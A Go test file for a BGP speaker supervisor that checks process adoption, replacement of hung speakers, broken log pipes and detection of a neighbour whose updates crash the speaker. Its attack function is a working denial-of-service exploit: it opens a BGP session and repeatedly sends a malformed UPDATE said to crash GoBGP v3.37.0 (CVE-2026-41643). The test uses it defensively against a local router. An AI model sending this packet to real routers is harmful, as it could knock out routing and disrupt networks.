// SPDX-License-Identifier: Apache-2.0

package speaker_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"log/slog"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	packet "github.com/osrg/gobgp/v3/pkg/packet/bgp"

	"korat/bgp"
	"korat/bgp/speaker"
	"korat/bgp/speaker/status"
	"korat/test/logbook"
)

// supervised runs a Supervisor for a router until stop is called.
type supervised struct {
	*speaker.Supervisor
	log  *logbook.Book
	stop func()
}

func (r *router) supervise() supervised {
	log := &logbook.Book{}
	s := speaker.NewSupervisor(speaker.SupervisorConfig{
		Command: []string{"/usr/bin/env", socketEnv + "=" + r.socket(), statusEnv + "=" + r.status(), os.Args[0]},
		Socket:  r.socket(), LogFile: filepath.Join(r.dir, "log"), Patience: 3 * time.Second,
		Log: slog.New(slog.NewTextHandler(log, nil)),
	})
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = s.Run(ctx)
	}()
	return supervised{s, log, func() { cancel(); <-done }}
}

func (r *router) pid() int {
	f, err := status.Read(r.status())
	if err != nil {
		r.t.Fatal(err)
	}
	return f.PID
}

// endSpeaker kills what a supervisor left behind and waits until it is gone.
func (r *router) endSpeaker() {
	pid := r.pid()
	if pid == 0 {
		return
	}
	end := time.Now().Add(patience)
	for syscall.Kill(pid, syscall.SIGKILL) == nil && time.Now().Before(end) {
		pause(context.Background())
	}
}

// The speaker outlives its supervisor, and the next one adopts it; after its death it is replaced.
func TestSupervisor(t *testing.T) {
	t.Parallel()
	a := newRouter(t, "127.0.0.1", freePort(t))
	a.startClient(false)
	first := a.supervise()
	t.Cleanup(a.endSpeaker)
	a.until("complete", func(rib bgp.RIB) bool { return rib.Complete })
	pid := a.pid()
	first.stop()
	second := a.supervise()
	defer second.stop()
	a.until("adoption", func(bgp.RIB) bool { return strings.Contains(second.log.String(), "speaker adopted") })
	if got := a.pid(); got != pid || !a.client.RIB().Running {
		t.Errorf("speaker %d after the supervisor's restart, want %d", got, pid)
	}
	if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	a.until("replacement", func(rib bgp.RIB) bool { return rib.Complete && a.pid() != pid })
}

// A speaker that hangs is reported and replaced, be it the supervisor's child or adopted.
func TestHungSpeaker(t *testing.T) {
	t.Parallel()
	a := newRouter(t, "127.0.0.1", freePort(t))
	a.startClient(false)
	sup := a.supervise()
	t.Cleanup(a.endSpeaker)
	defer func() { sup.stop() }()
	for _, which := range []string{"child", "adopted"} {
		a.until("complete", func(rib bgp.RIB) bool { return rib.Complete && a.client.Err() == nil })
		if which == "adopted" {
			sup.stop()
			sup = a.supervise()
			a.until("adoption", func(bgp.RIB) bool { return strings.Contains(sup.log.String(), "speaker adopted") })
		}
		hung := a.pid()
		if err := syscall.Kill(hung, syscall.SIGSTOP); err != nil {
			t.Fatal(err)
		}
		a.until("replacement of the "+which+" speaker", func(rib bgp.RIB) bool { return rib.Complete && a.pid() != hung })
		if log := sup.log.String(); !strings.Contains(log, "speaker does not answer: killed") {
			t.Errorf("the %s speaker was replaced without a word:\n%s", which, log)
		}
	}
}

// While nobody kills it, a speaker that hangs is an error all the time, and the consumer is woken for it.
func TestHungSpeakerIsReported(t *testing.T) {
	t.Parallel()
	a := newRouter(t, "127.0.0.1", freePort(t))
	a.startClient(false)
	a.startSpeaker()
	a.until("complete", func(rib bgp.RIB) bool { return rib.Complete && a.client.Err() == nil })
	if err := a.cmd.Process.Signal(syscall.SIGSTOP); err != nil {
		t.Fatal(err)
	}
	woken := func(what string, cond func(error) bool) {
		t.Helper()
		for end := time.After(patience); !cond(a.client.Err()); {
			select {
			case <-a.client.Wake():
			case <-end:
				t.Fatalf("%s: nobody was woken for it; error %v", what, a.client.Err())
			}
		}
	}
	woken("silence", func(err error) bool { return err != nil && strings.Contains(err.Error(), "does not answer") })
	silences := strings.Count(a.log.String(), "speaker is not as wanted")
	a.want() // a new plan is no answer
	if err := a.cmd.Process.Signal(syscall.SIGCONT); err != nil {
		t.Fatal(err)
	}
	woken("answer", func(err error) bool { return err == nil })
	if got := strings.Count(a.log.String(), "speaker is not as wanted"); silences != 1 || got > 2 {
		t.Errorf("the silence was logged %d times:\n%s", got, a.log)
	}
}

// A neighbour whose update crashes the library is found out, whoever starts the speaker again, and the
// others recover without it.
func TestSuspect(t *testing.T) {
	t.Parallel()
	for name, keepAlive := range map[string]func(*router) (stop func()){
		"supervised": func(r *router) func() {
			r.t.Cleanup(r.endSpeaker)
			return r.supervise().stop
		},
		"run beside": (*router).keepSpeaker,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			port := freePort(t)
			a, b := newRouter(t, "127.0.0.1", port), newRouter(t, "127.0.0.2", port, blockB)
			a.peerWith(b)
			b.peerWith(a)
			evil := netip.MustParseAddr("127.0.0.5")
			a.plan.Peers[evil] = bgp.Peer{
				Name: "evil", Kind: bgp.GlobalPeer, Address: evil, Port: port, AS: 65001, LocalAddress: a.addr,
				Passive: true, HoldTime: 9 * time.Second, Keepalive: 3 * time.Second, RestartTime: time.Second,
			}
			a.startClient(false)
			b.startClient(false)
			b.startSpeaker()
			stop := keepAlive(a)
			defer stop()
			ctx, cancel := context.WithCancel(context.Background())
			done := make(chan struct{})
			go func() {
				defer close(done)
				for ctx.Err() == nil {
					attack(ctx, netip.AddrPortFrom(a.addr, port), evil)
				}
			}()
			defer func() { cancel(); <-done }()
			a.until("suspicion", func(bgp.RIB) bool { return len(a.client.Suspects()) > 0 })
			for peer, reason := range a.client.Suspects() {
				if peer != evil || !strings.Contains(reason, "crashed the speaker 2 times") {
					t.Fatalf("suspect is %s (%s), want %s\n%s", peer, reason, evil, a.log)
				}
			}
			if stack, err := os.ReadFile(status.LastCrashPath(a.status())); err != nil || !bytes.Contains(stack, []byte("panic")) {
				t.Errorf("the stack of the crash was not kept: %v, %q", err, stack)
			}
			// The plan still has it: the client itself leaves it out.
			a.untilLearned("172.17.2.0/24: 127.0.0.2")
			// An agent that starts now knows as well.
			a.stopClient()
			a.startClient(true)
			a.until("suspicion by the next agent", func(bgp.RIB) bool { return len(a.client.Suspects()) > 0 })
			delete(a.plan.Peers, evil)
			a.want()
			cancel()
			<-done
			// Whoever deletes the file gives it another chance.
			if err := os.Remove(status.CrashesPath(a.status())); err != nil {
				t.Fatal(err)
			}
			a.until("pardon", func(bgp.RIB) bool { return len(a.client.Suspects()) == 0 })
		})
	}
}

// keepSpeaker starts the speaker again and again, as a service manager would.
func (r *router) keepSpeaker() (stop func()) {
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		for ctx.Err() == nil {
			cmd := exec.CommandContext(ctx, os.Args[0])
			cmd.Env = append(os.Environ(), socketEnv+"="+r.socket(), statusEnv+"="+r.status())
			if out, err := cmd.CombinedOutput(); err != nil && ctx.Err() == nil && !bytes.Contains(out, []byte("panic")) {
				r.t.Errorf("speaker: %v\n%s", err, out)
			}
		}
	}()
	return func() { cancel(); <-done }
}

// The speaker outlives the reader of its log.
func TestBrokenPipe(t *testing.T) {
	t.Parallel()
	a := newRouter(t, "127.0.0.1", freePort(t), blockA)
	read, write, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	a.cmd = speakerCommand(t, a.socket(), a.status())
	a.cmd.Stdout, a.cmd.Stderr = write, write
	if err := errors.Join(a.cmd.Start(), write.Close(), read.Close()); err != nil {
		t.Fatal(err)
	}
	a.startClient(false)
	a.until("complete", func(rib bgp.RIB) bool { return rib.Complete && a.client.Err() == nil })
	if err := a.cmd.Process.Signal(syscall.Signal(0)); err != nil {
		t.Errorf("the speaker is gone: %v", err)
	}
}

// attack opens a session and sends what crashes GoBGP v3.37.0 (CVE-2026-41643): from a neighbour
// without the four-octet AS capability, an AS4_PATH and after it, last of all, the AS_PATH.
func attack(ctx context.Context, to netip.AddrPort, from netip.Addr) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: from.AsSlice()}, Timeout: time.Second}
	conn, err := d.DialContext(ctx, "tcp", to.String())
	if err != nil {
		pause(ctx)
		return
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	update := packet.NewBGPUpdateMessage(nil, []packet.PathAttributeInterface{
		packet.NewPathAttributeOrigin(0),
		packet.NewPathAttributeNextHop(from.String()),
		packet.NewPathAttributeAs4Path([]*packet.As4PathParam{packet.NewAs4PathParam(2, []uint32{65001})}),
		packet.NewPathAttributeAsPath([]packet.AsPathParamInterface{packet.NewAsPathParam(2, []uint16{65001})}),
	}, []*packet.IPAddrPrefix{packet.NewIPAddrPrefix(24, "172.19.0.0")})
	var all bytes.Buffer
	for _, m := range []*packet.BGPMessage{packet.NewBGPOpenMessage(65001, 9, from.String(), nil), packet.NewBGPKeepAliveMessage(), update} {
		b, err := m.Serialize()
		if err != nil {
			return
		}
		all.Write(b)
		// An update that comes before the session is established ends it.
		if m.Header.Type == packet.BGP_MSG_KEEPALIVE {
			if _, err := conn.Write(all.Bytes()); err != nil || !keepaliveComes(conn) {
				pause(ctx)
				return
			}
			all.Reset()
		}
	}
	if _, err := conn.Write(all.Bytes()); err != nil {
		return
	}
	_, _ = io.Copy(io.Discard, conn)
}

// keepaliveComes reads messages up to the second keepalive: the first acknowledges the OPEN, the
// next shows that the session is established.
func keepaliveComes(conn net.Conn) bool {
	head := make([]byte, packet.BGP_HEADER_LENGTH)
	for seen := 0; seen < 2; {
		if _, err := io.ReadFull(conn, head); err != nil {
			return false
		}
		n := int(head[16])<<8 | int(head[17]) - len(head)
		if _, err := io.CopyN(io.Discard, conn, int64(n)); err != nil {
			return false
		}
		if head[18] == packet.BGP_MSG_KEEPALIVE {
			seen++
		}
	}
	return true
}

// pause keeps a refused attacker from spinning.
func pause(ctx context.Context) {
	select {
	case <-ctx.Done():
	case <-time.After(50 * time.Millisecond):
	}
}
